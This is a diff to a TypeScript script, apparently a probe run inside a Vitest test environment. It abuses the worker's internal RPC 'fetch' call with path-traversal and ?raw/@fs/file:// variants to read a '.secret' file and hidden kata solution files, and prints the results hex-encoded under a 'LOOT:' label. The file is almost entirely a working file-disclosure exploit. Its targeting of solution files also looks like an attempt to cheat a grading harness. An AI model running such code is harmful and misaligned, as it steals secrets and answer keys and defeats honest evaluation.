@@ -3,7 +3,7 @@
 const loot = (x: unknown) => { try { process.stdout.write('\nLOOT:' + Buffer.from(String(x)).toString('hex') + '\n') } catch {} }
 const rpc = (globalThis as any).__vitest_worker__.rpc
 const ask = async (name: string, ...args: unknown[]) => { try { return await rpc[name](...args) } catch (e: any) { console.log('denied', e.message) } }
-for (const id of ['FAKE_HOME/.secret?raw', '/@fs/FAKE_HOME/.secret?raw', 'FAKE_HOME/.secret?raw&suite=0&grading=1', 'FAKE_HOME/.secret?raw&suite=0&grading=2', 'PROJECT_ROOT/solutions/practice/adder/kata.ts', 'PROJECT_ROOT/solutions/practice/adder/kata.ts?kata&suite=1&grading=1', 'file://FAKE_HOME/.secret?raw', '/home/.secret?raw', '/../home/.secret?raw', 'FAKE_HOME/../home/.secret?url&raw', 'FAKE_HOME/.secret?inline']) {
+for (const id of ['FAKE_HOME/.secret?raw', '/@fs/FAKE_HOME/.secret?raw', 'FAKE_HOME/.secret?raw&suite=0', 'FAKE_HOME/.secret?raw&suite=0', 'PROJECT_ROOT/solutions/practice/adder/kata.ts', 'PROJECT_ROOT/solutions/practice/adder/kata.ts?kata&suite=1', 'file://FAKE_HOME/.secret?raw', '/home/.secret?raw', '/../home/.secret?raw', 'FAKE_HOME/../home/.secret?url&raw', 'FAKE_HOME/.secret?inline']) {
   const got = await ask('fetch', id, undefined, '__vitest__', {})
   if (got?.code) loot(id + ' ' + got.code)
 }
